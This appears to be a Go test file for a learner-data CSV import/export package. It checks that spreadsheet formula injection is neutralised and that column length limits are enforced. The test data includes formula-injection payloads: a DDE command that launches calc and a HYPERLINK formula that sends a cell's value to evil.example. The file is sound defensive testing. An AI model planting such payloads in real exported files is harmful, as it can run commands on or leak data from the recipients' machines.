package interchange

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/traject-nt2/traject/internal/domain"
)

func TestNeutraliseRestore(t *testing.T) {
	for _, tc := range []struct{ in, out string }{
		{"Amina", "Amina"},
		{"=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"'=already", "''=already"},
		{"'plain", "'plain"},
		{"O'Brien", "O'Brien"},
		{"", ""},
		{"'", "'"},
	} {
		if got := neutralise(tc.in); got != tc.out {
			t.Errorf("neutralise(%q) = %q, want %q", tc.in, got, tc.out)
		}
		if got := restore(tc.out); got != tc.in {
			t.Errorf("restore(%q) = %q, want %q", tc.out, got, tc.in)
		}
	}
}

// TestExportNeutralisesFormulas writes learners whose names a spreadsheet
// would run and reads the files back: no cell starts with a formula
// trigger, and the import gives the names back exactly.
func TestExportNeutralisesFormulas(t *testing.T) {
	names := []string{`=HYPERLINK("http://evil.example/?x="&A1,"klik")`, `+cmd|' /C calc'!A0`, `-1+1`, `@SUM(1)`, `'=quoted`}
	ds := &domain.DataSet{}
	for i, n := range names {
		ds.Learners = append(ds.Learners, domain.Learner{ID: "L" + string(rune('1'+i)), FirstName: n, LastName: n,
			BirthDate: domain.MustDate("1990-01-01"), Gender: "x", SchoolingLevel: "primary", Literacy: "literate_latin",
			LearningRoute: "standard", CivicStatus: "obliged", Perspective: "work"})
	}
	dir := t.TempDir()
	if err := WriteDir(dir, ds); err != nil {
		t.Fatal(err)
	}
	raw, err := os.ReadFile(filepath.Join(dir, "learners.csv"))
	if err != nil {
		t.Fatal(err)
	}
	for _, line := range bytes.Split(raw, []byte("\n")) {
		for _, cell := range strings.Split(string(line), ",") {
			cell = strings.TrimPrefix(cell, `"`)
			if cell != "" && isFormulaStart(cell[0]) {
				t.Errorf("a cell starts with a formula: %q", cell)
			}
		}
	}
	b, rowErrs, err := Read(dir, nil)
	if err != nil || len(rowErrs) > 0 {
		t.Fatalf("read back: %v %v", err, rowErrs)
	}
	got := map[string]string{}
	for _, l := range b.DataSet.Learners {
		got[l.ID] = l.FirstName + "|" + l.LastName
	}
	for i, n := range names {
		id := "L" + string(rune('1'+i))
		if got[id] != n+"|"+n {
			t.Errorf("%s read back as %q, want %q", id, got[id], n+"|"+n)
		}
	}
}

// TestLengthLimits refuses values beyond the limit of their column, each
// with its place, and takes values at the limit.
func TestLengthLimits(t *testing.T) {
	dir := t.TempDir()
	long := func(n int) string { return strings.Repeat("é", n) }
	csv := "id,first_name,last_name,birth_date,gender,schooling_level,literacy,learning_route,civic_status,perspective\n" +
		"L1," + long(MaxNameLength) + ",Aerts,1990-01-01,f,primary,literate_latin,standard,obliged,work\n" +
		"L2," + long(MaxNameLength+1) + ",Aerts,1990-01-01,f,primary,literate_latin,standard,obliged,work\n" +
		strings.Repeat("X", MaxCodeLength+1) + ",Amina,Aerts,1990-01-01,f,primary,literate_latin,standard,obliged,work\n"
	if err := os.WriteFile(filepath.Join(dir, "learners.csv"), []byte(csv), 0o600); err != nil {
		t.Fatal(err)
	}
	_, rowErrs, err := Read(dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, e := range rowErrs {
		got = append(got, e.Error())
	}
	want := []string{
		"learners.csv:3: first_name: is 201 characters long; at most 200 are allowed",
		"learners.csv:4: id: is 65 characters long; at most 64 are allowed",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("errors:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}
